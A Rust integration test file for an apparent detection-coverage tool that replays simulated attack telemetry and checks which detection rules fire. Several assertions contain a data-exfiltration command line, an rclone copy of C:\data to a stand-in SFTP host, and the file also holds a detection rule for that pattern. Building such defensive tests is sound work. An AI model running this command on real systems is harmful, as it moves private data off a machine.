//! `list`, `show`, `replay` and scenario `lint` from the command line, on a fixture scenario folder.

mod common;
use common::purplecov;

const ATOMICS: &str = "tests/fixtures/scenarios";

#[test]
fn list_shows_each_scenario_as_a_table_or_json() {
    let r = purplecov(&["list", "--atomics", ATOMICS]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let lines: Vec<&str> = r.stdout.lines().collect();
    assert!(lines[0].starts_with("ID"), "{}", r.stdout);
    assert!(lines[1].starts_with("T1048.002-9"), "{}", r.stdout);
    assert!(lines[1].contains("Minimal test scenario"), "{}", r.stdout);

    let r = purplecov(&["list", "--atomics", ATOMICS, "--format", "json"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let v: serde_json::Value = serde_json::from_str(&r.stdout).unwrap();
    assert_eq!(v[0]["id"], "T1048.002-9");
    assert_eq!(v[0]["records"], 1);
    assert_eq!(v[0]["sensors"][0], "sysmon");
}

#[test]
fn show_prints_inputs_command_and_timeline_with_overrides() {
    let r = purplecov(&[
        "show",
        "T1048.002-9",
        "--atomics",
        ATOMICS,
        "--arg",
        "remote_host=203.0.113.5",
    ]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(
        r.stdout
            .contains("remote_host (string) = 203.0.113.5 (overridden)"),
        "{}",
        r.stdout
    );
    assert!(
        r.stdout
            .contains(r"rclone.exe copy C:\data sftp://203.0.113.5/upload"),
        "{}",
        r.stdout
    );
    assert!(
        r.stdout.contains("+   0.500s  sysmon        1"),
        "{}",
        r.stdout
    );

    let r = purplecov(&["show", "T9999-1", "--atomics", ATOMICS]);
    assert_eq!(r.code, 2);
    assert!(r.stderr.contains("no scenario `T9999-1`"), "{}", r.stderr);

    let r = purplecov(&[
        "show",
        "T1048.002-9",
        "--atomics",
        ATOMICS,
        "--arg",
        "nope=1",
    ]);
    assert_eq!(r.code, 2);
    assert!(r.stderr.contains("has no argument `nope`"), "{}", r.stderr);
}

#[test]
fn replay_writes_native_records_and_flat_events() {
    let r = purplecov(&[
        "replay",
        "T1048.002-9",
        "--atomics",
        ATOMICS,
        "--format",
        "xml",
    ]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(r.stdout.starts_with("<Event xmlns="), "{}", r.stdout);
    assert!(r.stdout.contains("<EventID>1</EventID>"), "{}", r.stdout);
    assert!(r.stdout.contains("sftp://192.0.2.1/upload"), "{}", r.stdout);

    let r = purplecov(&[
        "replay",
        "T1048.002-9",
        "--atomics",
        ATOMICS,
        "--arg",
        "remote_host=203.0.113.5",
    ]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let ev: serde_json::Value = serde_json::from_str(r.stdout.lines().next().unwrap()).unwrap();
    assert_eq!(ev["Channel"], "Microsoft-Windows-Sysmon/Operational");
    assert_eq!(ev["Computer"], "WS-TEST-01.corp.example.com");
    assert_eq!(
        ev["CommandLine"],
        r"rclone.exe copy C:\data sftp://203.0.113.5/upload"
    );

    // The XML written by replay reads back through `eval` like any recording.
    let dir = tempfile::tempdir().unwrap();
    let xml = dir.path().join("replay.xml");
    let r = purplecov(&[
        "replay",
        "T1048.002-9",
        "--atomics",
        ATOMICS,
        "--format",
        "xml",
        "-o",
        xml.to_str().unwrap(),
    ]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let rule = dir.path().join("r.yml");
    std::fs::write(
        &rule,
        "title: rclone\nlogsource: {category: process_creation, product: windows}\ndetection:\n  s:\n    Image|endswith: '\\rclone.exe'\n    CommandLine|contains: 'sftp://'\n  condition: s\n",
    )
    .unwrap();
    let r = purplecov(&[
        "eval",
        "--rules",
        rule.to_str().unwrap(),
        "--input",
        xml.to_str().unwrap(),
        "--format",
        "jsonl",
    ]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert_eq!(r.stdout.lines().count(), 1, "{}", r.stdout);
}

#[test]
fn lint_reports_scenario_problems_with_file_and_line() {
    let dir = tempfile::tempdir().unwrap();
    let text = std::fs::read_to_string(format!("{ATOMICS}/minimal.yaml"))
        .unwrap()
        .replace("sensor: sysmon", "sensor: sysmom");
    let f = dir.path().join("bad.yaml");
    std::fs::write(&f, &text).unwrap();
    let line = text.lines().position(|l| l.contains("sysmom")).unwrap() + 1;
    let r = purplecov(&["lint", dir.path().to_str().unwrap()]);
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(
        r.stderr.contains(&format!(
            "bad.yaml:{line}: error: record 1: unknown sensor `sysmom`"
        )),
        "{}",
        r.stderr
    );

    let r = purplecov(&["lint", ATOMICS]);
    assert_eq!(r.code, 0, "{}", r.stderr);
}

/// What `run` reports as fired for one repository scenario: (rule id, events), sorted.
fn fired_in_run(id: &str) -> Vec<(String, Vec<u64>)> {
    let r = purplecov(&["run", "--scenario", id, "--format", "json"]);
    let v: serde_json::Value = serde_json::from_str(&r.stdout).unwrap();
    let mut out: Vec<(String, Vec<u64>)> = v["scenarios"][0]["rules"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|x| x["fired"] == true)
        .map(|x| {
            let ev = x["events"].as_array().unwrap();
            (
                x["rule"].as_str().unwrap().to_string(),
                ev.iter().map(|e| e.as_u64().unwrap()).collect(),
            )
        })
        .collect();
    out.sort();
    out
}

#[test]
fn a_jsonl_replay_evaluated_with_eval_fires_what_run_fires() {
    let dir = tempfile::tempdir().unwrap();
    let r = purplecov(&["list", "--format", "json"]);
    let ids: Vec<String> = serde_json::from_str::<serde_json::Value>(&r.stdout)
        .unwrap()
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["id"].as_str().unwrap().to_string())
        .collect();
    assert!(ids.len() >= 16, "{ids:?}");
    for id in &ids {
        let file = dir.path().join(format!("{id}.jsonl"));
        let f = file.to_str().unwrap();
        assert_eq!(purplecov(&["replay", id, "-o", f]).code, 0);
        let e = purplecov(&[
            "eval",
            "--rules",
            "detections",
            "--input",
            f,
            "--format",
            "jsonl",
        ]);
        assert_eq!(e.code, 0, "{}", e.stderr);
        let mut by_rule: std::collections::BTreeMap<String, Vec<u64>> = Default::default();
        for line in e.stdout.lines() {
            let h: serde_json::Value = serde_json::from_str(line).unwrap();
            let events = by_rule
                .entry(h["rule_id"].as_str().unwrap().to_string())
                .or_default();
            match &h["event"] {
                serde_json::Value::Array(a) => events.extend(a.iter().map(|x| x.as_u64().unwrap())),
                x => events.push(x.as_u64().unwrap()),
            }
        }
        let mut from_eval: Vec<(String, Vec<u64>)> = by_rule
            .into_iter()
            .map(|(k, mut v)| {
                v.sort_unstable();
                v.dedup();
                (k, v)
            })
            .collect();
        from_eval.sort();
        assert_eq!(from_eval, fired_in_run(id), "{id}");
    }
}
